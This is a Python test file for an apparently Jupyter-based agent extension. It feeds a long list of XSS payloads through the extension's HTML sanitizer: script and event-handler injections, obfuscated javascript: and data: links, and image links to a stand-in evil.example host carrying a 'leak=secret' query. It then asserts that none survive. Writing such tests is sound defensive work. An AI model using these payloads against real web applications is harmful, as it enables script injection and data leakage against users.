"""Model text -> safe HTML: hostile inputs through the static copy and %agent history, read back with a parser.

A payload is safe here when the emitted HTML, parsed by html.parser, has no element or attribute the
model could use to run script or load something by itself. The browser tests (tests/browser) check
the same corpus in a real Chromium; this is the fast, always-run check of the Python side.
"""
from __future__ import annotations

import importlib.util
import re
import sys
from datetime import datetime, timezone
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest

from agy_jupyter.agent.events import (Citations, CodeExecuted, CodeExecutionStarted, StatusChanged, TextDelta,
                                     ThoughtDelta, ToolCallStarted, ToolFinished)
from agy_jupyter.notebook import safe_html
from agy_jupyter.notebook.transcript import Transcript, history_bundle

FORBIDDEN_TAGS = {"script", "iframe", "svg", "math", "style", "object", "embed", "form", "input", "button", "textarea",
                  "select", "link", "meta", "base", "frame", "frameset", "audio", "video", "source", "template"}
SAFE_URL = re.compile(r"(https?:|mailto:|#)", re.I)

HOSTILE = [
    '<script>window.__agyPwned=1</script>',
    '<img src=x onerror="window.__agyPwned=1">',
    '<IMG SRC=x OnError=window.__agyPwned=1>',
    '<svg onload=window.__agyPwned=1>',
    '<svg><script>window.__agyPwned=1</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.__agyPwned=1>',
    '<iframe srcdoc="<script>parent.__agyPwned=1</script>"></iframe>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<div style="background:url(javascript:window.__agyPwned=1)">x</div>',
    '<a href="javascript:window.__agyPwned=1">x</a>',
    '[x](javascript:window.__agyPwned=1)',
    '[x](JaVaScRiPt:window.__agyPwned=1)',
    '[x](java\\script:window.__agyPwned=1)',
    '[x](javascript\\:window.__agyPwned=1)',
    '[x](&#106;avascript:window.__agyPwned=1)',
    '[x](&#x6A;avascript&colon;window.__agyPwned=1)',
    '[x](javascript&#58;window.__agyPwned=1)',
    '[x](  javascript:window.__agyPwned=1  )',
    '[x](<javascript:window.__agyPwned=1>)',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19hZ3lQd25lZD0xPC9zY3JpcHQ+)',
    '[x](data:image/png;base64,AAAA)',
    '[x][ref]\n\n[ref]: javascript:window.__agyPwned=1',
    '[x][ref]\n\n[ref]: <javascript:window.__agyPwned=1> "t"',
    '<javascript:window.__agyPwned=1>',
    '<JAVASCRIPT:window.__agyPwned=1>',
    '[x](file:///etc/passwd)',
    '[x](/api/contents)',
    '[x](//evil.example/x)',
    '![a](http://evil.example/x.png?leak=secret)',
    '![a](https://evil.example/x.png)',
    '![a](//evil.example/x.png)',
    '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '![a](javascript:window.__agyPwned=1)',
    '![a" onerror="window.__agyPwned=1](http://x/y.png)',
    '![a][img]\n\n[img]: http://evil.example/z.png',
    '[![a](http://evil.example/x.png)](javascript:window.__agyPwned=1)',
    '\\`<img src=x onerror=window.__agyPwned=1>\\`',
    '`` ` `` <img src=x onerror=window.__agyPwned=1>',
    '```\ncode\n   ```\n<img src=x onerror=window.__agyPwned=1>',
    '```js`<img src=x onerror=window.__agyPwned=1>`\nx\n```',
    '```"><img src=x onerror=window.__agyPwned=1>\nx\n```',
    '```python onerror=window.__agyPwned=1 class="x"\nprint(1)\n```',
    '~~~\n<script>window.__agyPwned=1</script>\n',
    '````\n```\n<img src=x onerror=window.__agyPwned=1>\n````',
    '> ```\n> <img src=x onerror=window.__agyPwned=1>\n<img src=x onerror=window.__agyPwned=1>',
    '- ```\n  x\n- <img src=x onerror=window.__agyPwned=1>',
    '    <script>indented code</script>',
    '<!-- --><img src=x onerror=window.__agyPwned=1><!-- -->',
    '<![CDATA[<img src=x onerror=window.__agyPwned=1>]]>',
    '&lt;img src=x onerror=window.__agyPwned=1&gt;',
    '&#60;script&#62;window.__agyPwned=1&#60;/script&#62;',
    '<details open ontoggle=window.__agyPwned=1>',
    '<form action="javascript:window.__agyPwned=1"><button>Approve</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__agyPwned=1">',
    '<base href="javascript:/">',
    '<object data="javascript:window.__agyPwned=1"></object>',
    '<a href="#" onclick="window.__agyPwned=1">Approve</a>',
    '| a | <img src=x onerror=window.__agyPwned=1> |\n|---|---|\n| [x](javascript:window.__agyPwned=1) | b |',
    '*<img src=x onerror=window.__agyPwned=1>*',
    '[<img src=x onerror=window.__agyPwned=1>](https://example.com)',
    '[x](https://example.com "a\\" onmouseover=\\"window.__agyPwned=1")',
    '<a href="https://example.com" onmouseover="window.__agyPwned=1">x</a>',
    "<scr<script>ipt>window.__agyPwned=1</scr</script>ipt>",
    '<<img src=x onerror=window.__agyPwned=1>>',
    '\u0000<img src=x onerror=window.__agyPwned=1>',
    '[x](java\u0000script:window.__agyPwned=1)',
    '[x](java\tscript:window.__agyPwned=1)',
    '[x](%6A%61%76%61script:window.__agyPwned=1)',
]
FOOTER = "FOOTER-USAGE-LINE"


class OutputChecker(HTMLParser):
    """Records every problem an emitted HTML fragment has, and where our own style and footer sit."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[tuple[str, str]] = []
        self.styles: list[str] = []
        self.footer_path: list[tuple[str, str]] | None = None
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "style":
            self._in_style = True
            if [t for t, _ in self.stack] != ["div"] or self.styles:  # only ours: the root's first child
                self.problems.append("a <style> that is not the copy's own")
        elif tag in FORBIDDEN_TAGS or tag not in safe_html._TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action", "background"):
                self.problems.append(f"{tag} {name}={value!r}")
            if name == "href" and not SAFE_URL.match(value.strip()):
                self.problems.append(f"href={value!r}")
            if name == "src" and not (tag == "img" and safe_html.DATA_IMAGE.match(value)):
                self.problems.append(f"{tag} src={value!r}")
        if tag not in ("br", "hr", "img"):
            self.stack.append((tag, attributes.get("class") or ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self._in_style = False
        if self.stack and self.stack[-1][0] == tag:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)
        if FOOTER in data:
            self.footer_path = list(self.stack)


def check(html: str) -> OutputChecker:
    checker = OutputChecker()
    checker.feed(html)
    checker.close()
    return checker


def reply_with(text: str, *, tool_text: str = "x") -> Transcript:
    """A finished reply carrying `text` everywhere a model's text can go."""
    transcript = Transcript(agent=f"agent {tool_text}", model=f"model {tool_text}")
    for event in (ThoughtDelta(text), TextDelta(text), ToolCallStarted("c1", tool_text, {"arg": text}),
                  ToolFinished("c1", tool_text, "ok", {"result": text}), TextDelta("\n\n" + text)):
        transcript.apply(event)
    transcript.fail(text, text)
    transcript.usage_line = FOOTER
    return transcript


def history_with(text: str) -> list:
    """The messages of an %agent history where the user, the model and a tool all wrote `text`."""
    now = datetime.now(timezone.utc)
    call = SimpleNamespace(name=text, args={"arg": text})
    response = SimpleNamespace(name=text, response={"result": text})
    base = dict(turn=1, time=now, status="complete", excluded=False, function_calls=[], function_responses=[],
                parts=[], grounding=None)
    return [SimpleNamespace(**base, role="user", kind="prompt", text=text),
            SimpleNamespace(**{**base, "function_calls": [call]}, role="model", kind="reply", text=text),
            SimpleNamespace(**{**base, "function_responses": [response]}, role="user", kind="tool_results", text=""),
            SimpleNamespace(**base, role="model", kind="summary", text=text)]


def server_tools_reply(text: str) -> Transcript:
    """A reply where Gemini's code run (code, output) and its cited sources (title, URI, claim) hold `text`."""
    transcript = Transcript(agent="a")
    for event in (CodeExecutionStarted(text, text[:20]), CodeExecuted(text, text[:20], text[:20], text),
                  Citations([{"title": text, "uri": text}, {"title": text, "uri": "https://x.example/" + text}],
                            [{"text": text, "sources": [0, 1]}], [text])):
        transcript.apply(event)
    return transcript


def _browser_corpus() -> list[str]:
    """The browser tests' corpus (tests/xss_corpus.py, PAYLOADS) when it is present; none otherwise."""
    path = Path(__file__).with_name("xss_corpus.py")
    if not path.exists():
        return []
    spec = importlib.util.spec_from_file_location("xss_corpus", path)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # its dataclasses look their module up
    spec.loader.exec_module(module)
    return [p if isinstance(p, str) else p.text for p in module.PAYLOADS]


def is_our_stylesheet(style: str) -> bool:
    """`style` is the always-on rules followed by some of the @when sections, in order, and nothing else."""
    sections = safe_html._css_sections()
    if not style.startswith(sections[0][1]):
        return False
    rest = style[len(sections[0][1]):]
    for _name, rules in sections[1:]:
        rest = rest[len(rules):] if rest.startswith(rules) else rest
    return rest == ""


@pytest.mark.parametrize("payload", HOSTILE + _browser_corpus())
def test_hostile_text_never_reaches_the_page_as_markup(payload):
    for html in (reply_with(payload).static_bundle()["text/html"], reply_with("x", tool_text=payload).to_html(),
                 history_bundle(history_with(payload))["text/html"], server_tools_reply(payload).to_html()):
        checker = check(html)
        assert checker.problems == [], (payload, checker.problems, html)
        assert len(checker.styles) == 1 and is_our_stylesheet(checker.styles[0])


@pytest.mark.parametrize("payload", [p for p in HOSTILE if "```" in p or "~~~" in p] + ["```\nnever closed", "~~~~~"])
def test_an_odd_fence_does_not_swallow_the_footer(payload):
    checker = check(reply_with(payload).to_html())
    assert checker.footer_path == [("div", "agy-static agy-reply agy-status-error"), ("div", "agy-footer")]


def test_the_static_copy_has_no_markdown_copy():
    """JupyterLab renders trusted text/markdown unsanitized: the static copy must not carry one."""
    assert set(reply_with("hi").static_bundle()) == {"text/html", "text/plain", "application/vnd.agy.transcript+json"}


def test_markdown_still_renders():
    html = safe_html.markdown_html("# Title\n\n- one\n- two\n\n1. first\n\n| x | y |\n|:--|--:|\n| 1 | 2 |\n\n"
                                   "~~gone~~ **bold** *it* `code` [site](https://example.com) [top](#top) "
                                   "[mail](mailto:a@example.com)\n\n> quoted\n\n```python\ndef f():\n    return 'hi'\n```\n")
    assert "<h1>Title</h1>" in html and html.count("<li>") == 3 and "<s>gone</s>" in html
    assert '<th class="agy-align-left">x</th>' in html and '<td class="agy-align-right">2</td>' in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">site</a>' in html
    assert 'href="#top"' in html and 'href="mailto:a@example.com"' in html and "<blockquote>" in html
    assert '<pre class="agy-code"><code><span class="k">def</span> <span class="nf">f</span>' in html
    assert "<span class=\"s1\">'hi'</span>" in html


def test_an_unknown_fence_language_is_plain_escaped_code():
    html = safe_html.markdown_html('```no-such-lang "><b>x</b>\n<b>bold?</b>\n```')
    assert html == '<pre class="agy-code"><code>&lt;b&gt;bold?&lt;/b&gt;\n</code></pre>\n'


def test_remote_images_become_links_and_agent_figures_show():
    figure = "data:image/png;base64,iVBORw0KGgo="
    html = safe_html.markdown_html(f"![chart]({figure}) ![leak](https://evil.example/p.png?q=secret) ![x](ftp://a/b)")
    assert f'<img src="{figure}" alt="chart">' in html
    assert '<a class="agy-image-link" href="https://evil.example/p.png?q=secret"' in html and "[image: leak]" in html
    assert "<img" not in html.replace(f'<img src="{figure}"', "") and "[image: x]" in html and "ftp:" not in html


def test_the_stylesheet_is_scoped_to_the_copy():
    """JupyterLab applies an output's <style> to the whole page: every selector starts with .agy-static."""
    css = re.sub(r":is\([^)]*\)", ":is()", safe_html.static_css())  # the commas inside :is() do not split
    selectors = [s.strip() for rule in re.findall(r"([^{}]+)\{", css) for s in rule.split(",")]
    assert len(selectors) > 50 and [s for s in selectors if not s.startswith(".agy-static")] == []


def test_no_emoji_in_the_static_copy():
    transcript = reply_with("plain")
    transcript.apply(ToolCallStarted("c2", "t", {}))
    transcript.apply(ToolFinished("c2", "t", "denied", {}))
    html = transcript.to_html()
    assert not re.search("[\U0001F000-\U0001FFFF\u2600-\u27BF\u2B00-\u2BFF]", html)


def test_untrusted_names_and_statuses_are_escaped():
    transcript = Transcript(agent='<img src=x onerror=1>', model='"><script>1</script>')
    transcript.apply(ToolCallStarted(None, "<b>tool</b>", {}))
    transcript.apply(StatusChanged("done"))
    html = transcript.to_html()
    assert "&lt;img src=x onerror=1&gt;" in html and "&lt;b&gt;tool&lt;/b&gt;" in html
    assert check(html).problems == []


def test_the_checker_sees_what_an_unsanitized_renderer_lets_through():
    """Guards the check above: markdown-it alone (raw HTML off) still emits a remote <img> and a data: link."""
    from markdown_it import MarkdownIt
    raw = MarkdownIt("commonmark", {"html": False}).render("![a](http://evil.example/x.png) [d](data:image/png;base64,AA)")
    assert check(raw).problems == ["img src='http://evil.example/x.png'", "href='data:image/png;base64,AA'"]
    assert check('<p><img src=x onerror="y"><a href="javascript:z">x</a></p>').problems == [
        "img src='x'", "img onerror='y'", "href='javascript:z'"]


def test_very_long_code_is_shown_plain_not_highlighted():
    code = "x = 1\n" * (safe_html.MAX_HIGHLIGHT_CHARS // 6 + 1)
    html = safe_html.markdown_html(f"```python\n{code}```")
    assert "<span" not in html and html.count("x = 1") == code.count("x = 1")
    assert '<span class="n">x</span>' in safe_html.markdown_html("```python\nx = 1\n```")


def test_a_copy_carries_only_the_style_sections_it_uses():
    """The stylesheet is saved with every reply: a short text reply must not carry tool, code or table rules."""
    short = Transcript(agent="a", model="m")
    short.apply(TextDelta("just words"))
    short.status, short.usage_line = "done", FOOTER
    plain = short.to_html()
    assert ".agy-tool{" not in plain and ".agy-code :is(" not in plain and "agy-table" not in plain
    assert ".agy-static .agy-header{" in plain and ".agy-static .agy-footer" in plain
    rich = reply_with("```python\nx = 1\n```\n\n| a |\n|---|\n| 1 |", tool_text="r").to_html()
    assert ".agy-static .agy-tool{" in rich and ".agy-code :is(" in rich and "table.agy-table{" in rich
    assert len(safe_html.static_css(plain)) < 0.6 * len(safe_html.static_css(rich))


@pytest.mark.parametrize("nesting", ["- " * 12, "- " * 60, "> " * 120, "1. " * 70, "- > " * 40])
def test_deep_nesting_never_drops_the_text_after_it(nesting):
    """markdown-it stops at its nesting limit and drops what follows; such text is shown whole, as text."""
    html = safe_html.markdown_html(nesting + "deep\n\nthe rest <b>stays</b>")
    assert "deep" in html and "the rest &lt;b&gt;stays&lt;/b&gt;" in html and "<b>" not in html
